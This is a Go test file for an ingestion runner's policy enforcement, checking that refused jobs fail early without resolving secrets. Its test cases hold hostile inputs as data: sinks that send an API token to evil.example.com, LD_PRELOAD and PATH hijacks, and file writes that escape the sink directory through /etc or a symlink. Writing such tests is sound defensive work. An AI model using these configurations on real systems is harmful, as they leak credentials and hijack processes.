package app_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/outposthq/outpost/libs/queue"
	ingestv1 "github.com/outposthq/outpost/proto/outpost/ingest/v1"
	jobsv1 "github.com/outposthq/outpost/proto/outpost/jobs/v1"

	"github.com/outposthq/outpost/services/ingestion-runner/internal/app"
	"github.com/outposthq/outpost/services/ingestion-runner/internal/runner"
	"github.com/outposthq/outpost/services/ingestion-runner/internal/secrets"
)

// askedProvider knows every name and records which it was asked for.
type askedProvider struct {
	mu    sync.Mutex
	asked []string
}

func (p *askedProvider) Name() string { return "recorder" }

func (p *askedProvider) Lookup(_ context.Context, name string) (string, bool, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.asked = append(p.asked, name)
	return "v4lue-of-" + name, true, nil
}

func (p *askedProvider) names() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return slices.Clone(p.asked)
}

func ingestJob(recipe string) *jobsv1.JobSpec {
	return &jobsv1.JobSpec{
		Pool:  "default",
		Retry: &jobsv1.RetryPolicy{MaxAttempts: 3},
		Task:  &jobsv1.Task{Kind: &jobsv1.Task_Ingest{Ingest: &ingestv1.IngestTask{Recipe: recipe}}},
	}
}

// TestPolicyRefusesBeforeResolving runs a real runner on a real broker with
// a policy, and jobs the policy refuses: each fails at its first attempt
// (no retry) with the rule in its reason, and the secret provider is never
// asked for any name, so no value can reach the host the job named.
func TestPolicyRefusesBeforeResolving(t *testing.T) {
	e := newEnv(t)
	outDir := t.TempDir()
	outside := t.TempDir()
	require.NoError(t, os.Symlink(outside, filepath.Join(outDir, "escape")))

	cfg := runnerConfig(t, "r1")
	cfg.Command.Allowlist = []string{"sh", "env"}
	cfg.Policy.AllowedHosts = []string{"*.corp.example", "db.internal:5432"}
	cfg.Policy.Secrets = []string{"default=API_*", "default=PG_*", "other=OTHER_*"}
	cfg.Policy.FileSinkDir = outDir
	cfg.Policy.AllowedTaskKinds = []string{"command", "ingest"}
	require.NoError(t, cfg.Validate())

	prov := &askedProvider{}
	conn := e.connect(t, cfg.Settings)
	r := runner.New(app.RunnerConfig(cfg), conn, queue.NewSubjects(cfg.Broker.Stack),
		app.Tasks(cfg, conn, queue.NewSubjects(cfg.Broker.Stack), []secrets.Provider{prov}), discard, runner.NewMetrics(nil))
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- r.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		require.NoError(t, <-done)
	})
	require.Eventually(t, func() bool { return r.Ready() == nil }, 10*time.Second, 5*time.Millisecond)

	pgSource := "source:\n  type: postgres\n  config: {host_port: 'db.internal:5432', database: shop, username: u, password: '${PG_PASSWORD}'}\n"
	tests := []struct {
		name   string
		spec   *jobsv1.JobSpec
		reason string
	}{
		{"http sink to a host not allowed",
			ingestJob(pgSource + "sink:\n  type: http\n  config: {url: 'https://evil.example.com/in', headers: {Authorization: 'Bearer ${API_TOKEN}'}}\n"),
			"policy: sink http host evil.example.com:443 is not in policy.allowed_hosts"},
		{"datahub-rest sink whose host is a reference",
			ingestJob(pgSource + "sink:\n  type: datahub-rest\n  config: {server: 'https://${API_HOST}/gms', token: '${API_TOKEN}'}\n"),
			"policy: sink datahub-rest URL host must be written literally, without ${NAME}"},
		{"database source not allowed",
			ingestJob("source:\n  type: mysql\n  config: {host_port: 'evil.example.com', username: u, password: '${PG_PASSWORD}'}\nsink: {type: outpost}\n"),
			"policy: source mysql host evil.example.com:3306 is not in policy.allowed_hosts"},
		{"postgres option that picks another server",
			ingestJob("source:\n  type: postgres\n  config: {host_port: 'db.internal:5432', database: d, password: '${PG_PASSWORD}', options: {host: evil.example.com}}\nsink: {type: outpost}\n"),
			"policy: source postgres option host is refused"},
		{"file sink outside its directory",
			ingestJob(pgSource + "sink:\n  type: file\n  config: {filename: '/etc/outpost-records.json'}\n"),
			"policy: sink file /etc/outpost-records.json is not under policy.file_sink_dir"},
		{"file sink through a symbolic link",
			ingestJob(pgSource + "sink:\n  type: file\n  config: {filename: 'escape/records.json'}\n"),
			"leads out of policy.file_sink_dir"},
		{"secret the pool may not resolve",
			command(`echo "$X"`, func(s *jobsv1.JobSpec) {
				s.GetTask().GetCommand().Env = map[string]string{"X": "${OTHER_TOKEN}"}
			}),
			"policy: secret OTHER_TOKEN is not in policy.secrets for this pool"},
		{"forbidden environment variable",
			command(`echo hi`, func(s *jobsv1.JobSpec) {
				s.GetTask().GetCommand().Env = map[string]string{"LD_PRELOAD": "/tmp/x.so", "T": "${API_TOKEN}"}
			}),
			"policy: environment variable LD_PRELOAD is refused (prefix LD_)"},
		{"PATH set by the job",
			command(`echo hi`, func(s *jobsv1.JobSpec) {
				s.GetTask().GetCommand().Env = map[string]string{"PATH": "/tmp/evil"}
			}),
			"policy: environment variable PATH is refused"},
		{"command recipe sending to a host not allowed",
			command(`cat "$OUTPOST_RECIPE_FILE"`, func(s *jobsv1.JobSpec) {
				s.GetTask().GetCommand().Recipe = &ingestv1.IngestTask{Recipe: pgSource + "sink:\n  type: datahub-rest\n  config: {server: 'http://10.0.0.9:8080', token: '${API_TOKEN}'}\n"}
			}),
			"policy: sink datahub-rest host 10.0.0.9:8080 is not in policy.allowed_hosts"},
		{"task kind not allowed",
			&jobsv1.JobSpec{Pool: "default", Task: &jobsv1.Task{Kind: &jobsv1.Task_Noop{Noop: &jobsv1.NoopTask{}}}},
			"policy: task kind noop is not in policy.allowed_task_kinds"},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			id := fmt.Sprintf("job-refused-%d", i)
			e.dispatch(t, id, tt.spec)
			sts := e.waitStates(t, id, "RUNNING@1/r1", "FAILED@1/r1")
			require.Contains(t, sts[1].GetReason(), tt.reason)
			require.Empty(t, prov.names(), "no secret may be looked up for a refused job")
			for _, m := range append(e.status.on(""), e.logs.on("")...) {
				require.NotContains(t, string(m.Data), "v4lue-of-", m.Subject)
			}
		})
	}
	entries, err := os.ReadDir(outside)
	require.NoError(t, err)
	require.Empty(t, entries, "nothing was written outside the file sink directory")

	// The same runner resolves what its pool may resolve, for a command
	// with an ordinary environment.
	e.dispatch(t, "job-allowed", command(`echo "token $T"`, func(s *jobsv1.JobSpec) {
		s.GetTask().GetCommand().Env = map[string]string{"T": "${API_TOKEN}"}
	}))
	e.waitStates(t, "job-allowed", "RUNNING@1/r1", "SUCCEEDED@1/r1")
	require.Equal(t, []string{"API_TOKEN"}, prov.names())
}
